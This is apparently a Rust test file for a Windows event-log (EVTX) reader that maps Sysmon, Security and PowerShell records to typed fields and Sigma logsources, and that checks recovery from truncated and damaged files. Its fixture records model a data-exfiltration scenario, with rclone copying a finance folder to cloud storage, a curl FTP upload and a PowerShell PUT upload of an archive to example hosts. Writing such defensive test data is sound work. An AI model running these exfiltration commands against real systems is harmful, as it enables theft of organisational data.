//! The EVTX reader over EVTX files written by the test (see support/evtx_writer.rs):
//! Sysmon 1/3/11/22, Security 4688/4698, PowerShell 4104 map to typed fields and
//! SigmaHQ logsources, and a file cut inside a chunk keeps every record before the
//! cut.

mod support;

use model::{EventKind, LogSource, Sym};
use sources::{Format, SourceContext, open_bytes, open_path};
use support::evtx_writer::{data, event, evtx_file};

const SYSMON: &str = "Microsoft-Windows-Sysmon";
const SYSMON_CHANNEL: &str = "Microsoft-Windows-Sysmon/Operational";

fn records() -> Vec<support::evtx_writer::Node> {
    let time = |s: u32| format!("2026-11-20T02:{:02}:{:02}.000000Z", s / 60, s % 60);
    let mut out = Vec::new();
    for i in 0..40u32 {
        let id = u64::from(i) + 1;
        let node = match i % 7 {
            0 => event(
                SYSMON,
                SYSMON_CHANNEL,
                1,
                id,
                &time(i),
                "ws7.corp.example",
                vec![
                    data("Image", r"C:\Tools\rclone.exe"),
                    data("CommandLine", r"rclone.exe copy C:\Finance mega:backup"),
                    data("ParentImage", r"C:\Windows\System32\cmd.exe"),
                    data("ProcessId", "4242"),
                    data("User", r"CORP\alice"),
                ],
            ),
            1 => event(
                SYSMON,
                SYSMON_CHANNEL,
                3,
                id,
                &time(i),
                "ws7.corp.example",
                vec![
                    data("Image", r"C:\Tools\rclone.exe"),
                    data("Protocol", "tcp"),
                    data("SourceIp", "10.1.2.3"),
                    data("SourcePort", "50505"),
                    data("DestinationIp", "198.51.100.80"),
                    data("DestinationPort", "443"),
                    data("DestinationHostname", "g.api.mega.co.nz"),
                ],
            ),
            2 => event(
                SYSMON,
                SYSMON_CHANNEL,
                11,
                id,
                &time(i),
                "ws7.corp.example",
                vec![
                    data("Image", r"C:\Program Files\7-Zip\7z.exe"),
                    data(
                        "TargetFilename",
                        r"C:\Users\alice\AppData\Local\Temp\fin.7z",
                    ),
                ],
            ),
            3 => event(
                SYSMON,
                SYSMON_CHANNEL,
                22,
                id,
                &time(i),
                "ws7.corp.example",
                vec![
                    data("Image", r"C:\Tools\rclone.exe"),
                    data("QueryName", "g.api.mega.co.nz"),
                    data("QueryStatus", "0"),
                    data("QueryResults", "::ffff:198.51.100.80;"),
                ],
            ),
            4 => event(
                "Microsoft-Windows-Security-Auditing",
                "Security",
                4688,
                id,
                &time(i),
                "ws7.corp.example",
                vec![
                    data("NewProcessName", r"C:\Windows\System32\curl.exe"),
                    data("NewProcessId", "0x1f40"),
                    data("CommandLine", "curl -T fin.7z ftp://203.0.113.9/"),
                    data("SubjectUserName", "alice"),
                ],
            ),
            5 => event(
                "Microsoft-Windows-Security-Auditing",
                "Security",
                4698,
                id,
                &time(i),
                "ws7.corp.example",
                vec![
                    data("SubjectUserName", "alice"),
                    data("TaskName", r"\Upload"),
                ],
            ),
            _ => event(
                "Microsoft-Windows-PowerShell",
                "Microsoft-Windows-PowerShell/Operational",
                4104,
                id,
                &time(i),
                "ws7.corp.example",
                vec![
                    data(
                        "ScriptBlockText",
                        "Invoke-WebRequest -Method Put -InFile fin.7z https://upload.example/",
                    ),
                    data("Path", ""),
                ],
            ),
        };
        out.push(node);
    }
    out
}

#[test]
fn written_evtx_maps_every_windows_event_kind() {
    let file = evtx_file(&records(), 15);
    let (format, source) = open_bytes("fixture.evtx", file, &SourceContext::default()).unwrap();
    assert_eq!(format, Format::Evtx);
    let events: Vec<_> = source.collect::<Result<_, _>>().unwrap();
    assert_eq!(events.len(), 40);
    let kinds: Vec<EventKind> = events.iter().take(7).map(|e| e.kind).collect();
    assert_eq!(
        kinds,
        [
            EventKind::ProcessStart,
            EventKind::Network,
            EventKind::File,
            EventKind::Dns,
            EventKind::ProcessStart,
            EventKind::ScheduledTask,
            EventKind::Script,
        ]
    );
    let sysmon1 = &events[0];
    assert_eq!(
        sysmon1.logsource,
        LogSource::new(Some("windows"), Some("process_creation"), Some("sysmon"))
    );
    assert_eq!(
        sysmon1.native.get_by_name("EventID"),
        Some(model::ValueRef::Int(1))
    );
    assert_eq!(
        sysmon1.native.get_by_name("Provider_Name"),
        Some(model::ValueRef::Str(SYSMON))
    );
    assert_eq!(
        sysmon1.native.get_by_name("Image"),
        Some(model::ValueRef::Str(r"C:\Tools\rclone.exe"))
    );
    assert_eq!(sysmon1.host_name.as_deref(), Some("ws7.corp.example"));
    assert_eq!(sysmon1.process.as_deref().unwrap().pid, Some(4242));
    assert_eq!(sysmon1.user_name.as_deref(), Some("alice"));
    assert_eq!(sysmon1.timestamp.to_rfc3339(), "2026-11-20T02:00:00Z");
    let net = events[1].network.as_deref().unwrap();
    assert_eq!(net.destination_port, Some(443));
    assert_eq!(net.destination_domain.as_deref(), Some("g.api.mega.co.nz"));
    assert_eq!(net.direction.as_deref(), Some("outbound"));
    assert_eq!(
        events[2].file_path.as_deref(),
        Some(r"C:\Users\alice\AppData\Local\Temp\fin.7z")
    );
    assert_eq!(events[3].dns.as_deref().unwrap().answers, ["198.51.100.80"]);
    assert_eq!(
        events[4].logsource.category,
        Sym::lookup("process_creation")
    );
    assert_eq!(events[4].process.as_deref().unwrap().pid, Some(0x1f40));
    assert_eq!(events[6].logsource.category, Sym::lookup("ps_script"));
    assert!(
        events[6]
            .script_text
            .as_deref()
            .unwrap()
            .contains("-InFile")
    );
    let origins: Vec<u64> = events
        .iter()
        .map(|e| e.origin.as_ref().unwrap().offset)
        .collect();
    assert_eq!(
        origins,
        (1..=40).collect::<Vec<u64>>(),
        "origin offsets are record ids"
    );
}

#[test]
fn written_evtx_cut_inside_a_chunk_keeps_the_records_before_the_cut() {
    let file = evtx_file(&records(), 15);
    assert_eq!(file.len(), 4096 + 3 * 65536);
    let dir = tempfile::tempdir().unwrap();
    // Cut the second chunk after a few records: the first chunk's 15 records and the
    // whole records of the second chunk survive.
    let cut = 4096 + 65536 + 512 + 2500;
    let path = dir.path().join("cut.evtx");
    std::fs::write(&path, &file[..cut]).unwrap();
    let (_, source) = open_path(&path, &SourceContext::default()).unwrap();
    let (mut ok, mut errors) = (Vec::new(), Vec::new());
    for record in source {
        match record {
            Ok(e) => ok.push(e.origin.unwrap().offset),
            Err(e) => errors.push(e),
        }
    }
    assert!(ok.len() > 15, "records before the cut are kept: {ok:?}");
    assert_eq!(ok, (1..=ok.len() as u64).collect::<Vec<_>>());
    assert_eq!(errors.len(), 1);
    assert_eq!(errors[0].offset, cut as u64);
    assert!(errors[0].reason.contains("truncated"));
}

#[test]
fn written_evtx_with_a_damaged_chunk_keeps_the_others() {
    let mut file = evtx_file(&records(), 15);
    // Overwrite the second chunk's magic.
    file[4096 + 65536..4096 + 65536 + 8].copy_from_slice(b"XXXXXXXX");
    let (_, source) = open_bytes("damaged.evtx", file, &SourceContext::default()).unwrap();
    let (mut ok, mut errors) = (0, Vec::new());
    for record in source {
        match record {
            Ok(_) => ok += 1,
            Err(e) => errors.push(e),
        }
    }
    assert_eq!(ok, 25);
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0].offset, 4096 + 65536);
}
